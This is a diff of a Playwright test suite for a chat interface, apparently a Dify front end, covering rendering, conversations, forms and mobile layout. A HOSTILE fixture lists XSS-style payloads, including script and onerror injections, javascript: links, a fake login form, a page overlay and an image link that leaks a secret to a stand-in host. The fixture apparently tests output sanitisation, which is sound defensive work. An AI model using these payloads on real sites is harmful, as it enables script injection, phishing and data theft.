@@ -32,19 +32,47 @@ SLOW = "[[chunks:40]][[delay:60]]"
 
 HOSTILE = """\
 <script>pwned = 1</script><img src=x onerror="pwned = 1"><svg onload="pwned = 1"></svg>
+
 <iframe src="https://elsewhere.example/"></iframe><style>body { display: none }</style>
+
 <form action="https://elsewhere.example/"><input name=password><button>Log in</button></form>
+
 <a href="javascript:pwned = 1">raw</a> [markdown](javascript:pwned=1) [data](data:text/html,<script>1</script>)
+
 ![leak](https://elsewhere.example/leak?secret) ![x](x"onerror="pwned=1)
+
 <div id="composer" class="error" style="position:fixed;inset:0" onclick="pwned = 1">over the page</div>
+
 <math><mi xlink:href="javascript:pwned=1">m</mi></math><object data="x"></object><base href="https://elsewhere.example/">
+
 [fine](https://good.example/)
+"""
+
+SHOWN = """\
+Here is **what I found** about [the API](https://docs.example/):
+
+1. It answers *at once*.
+2. It costs `0.002` per call, see the [very long address](https://docs.example/).
+
+| Mode | Streams | Keeps | Needs a form | Cost per thousand |
+|:--|:-:|:-:|:-:|--:|
+| Chat | yes | yes | no | 0.12 |
+| Workflow | yes | no | yes | 0.34 |
+
+```python
+async for piece in client.chat.stream_chat_message(query="A long line that does not fit on a phone", user="alice").text():
+    print(piece)
+```
+
+> 引用：这一段是中文，不能超出屏幕。
 """
 
 
 def say(turn: Turn) -> Any:
-    """What the app answers: `say …` is said as it is, and the rest as the default apps do."""
-    return turn.query.removeprefix("say ") if turn.query.startswith("say ") else echo(turn)
+    """What the app answers: `say …` is said as it is, one question is answered with all of markdown, the rest as the default apps do."""
+    if turn.query.startswith("say "):
+        return turn.query.removeprefix("say ")
+    return SHOWN if turn.query == "What have you found?" else echo(turn)
 
 
 @pytest.fixture(scope="module")
@@ -352,7 +380,7 @@ def test_conversations_are_opened_renamed_and_deleted(chat: Chat, dify: DifyServ
     page.get_by_role("button", name="Keep it").click()
     page.get_by_role("button", name="Delete An older one <b>").click()
     page.get_by_role("button", name="Delete", exact=True).click()
-    page.wait_for_function("document.querySelectorAll('#conversations li').length === 1")
+    page.wait_for_function("() => document.querySelectorAll('#conversations li').length === 1")
     assert page.locator("article").count() == 0
     page.reload()
     page.locator("#conversations li").wait_for()
@@ -409,31 +437,11 @@ def test_an_app_with_a_form(dify: DifyServer, chrome: Browser, tmp_path: Path) -
         chat.ask("Hello")
         page.get_by_text("Please fill in the form first.").wait_for()
         page.get_by_label("Your name").fill("Ann")
-        page.get_by_label("age").fill("42")
+        page.get_by_role("spinbutton").fill("42")
         chat.ask("Hello")
         chat.wait_for_end()
         assert [question["inputs"] for question in asked(dify) if question["inputs"]] == [{"name": "Ann", "age": 42}]
         page.close()
-
-
-SHOWN = """\
-say Here is **what I found** about [the API](https://docs.example/):
-
-1. It answers *at once*.
-2. It costs `0.002` per call, see the [very long address](https://docs.example/).
-
-| Mode | Streams | Keeps | Needs a form | Cost per thousand |
-|:--|:-:|:-:|:-:|--:|
-| Chat | yes | yes | no | 0.12 |
-| Workflow | yes | no | yes | 0.34 |
-
-```python
-async for piece in client.chat.stream_chat_message(query="A long line that does not fit on a phone", user="alice").text():
-    print(piece)
-```
-
-> 引用：这一段是中文，不能超出屏幕。
-"""
 
 
 @pytest.mark.parametrize("scheme", ["light", "dark"])
@@ -446,17 +454,20 @@ def test_it_fits(
     picture(page, tmp_path, f"{name}-1-start")
     page.locator("#file").set_input_files({"name": "report.pdf", "mimeType": "application/pdf", "buffer": b"%PDF"})  # type: ignore[arg-type]
     page.locator("#files li[aria-busy=false]").wait_for()
-    chat.ask(SHOWN)
+    chat.ask("What have you found?")
     chat.wait_for_end()
     picture(page, tmp_path, f"{name}-2-answer")
     assert not is_wider_than_its_window(page)
+    composer = page.locator("#composer").bounding_box()
+    assert composer
+    assert composer["y"] + composer["height"] <= viewport["height"], "the question is asked without scrolling"
     chat.ask(SLOW)
     chat.wait_for_words(5)
     picture(page, tmp_path, f"{name}-3-growing")
     page.get_by_role("button", name="Stop").click()
     chat.wait_for_end()
     chat.ask("[[error]]")
-    chat.wait_for_end()
+    page.get_by_role("alert").wait_for()
     picture(page, tmp_path, f"{name}-4-error")
     if viewport is PHONE:
         assert not page.get_by_role("button", name="New conversation").is_visible()
@@ -464,7 +475,7 @@ def test_it_fits(
         page.get_by_role("button", name="New conversation").wait_for()
         picture(page, tmp_path, f"{name}-5-menu")
         page.keyboard.press("Escape")
-        page.wait_for_function("document.activeElement.id === 'menu'")
+        page.wait_for_function("() => document.activeElement.id === 'menu'")
     background = page.evaluate("getComputedStyle(document.body).backgroundColor")
     assert background == ("rgb(255, 255, 255)" if scheme == "light" else "rgb(22, 24, 28)")
     assert not is_wider_than_its_window(page)
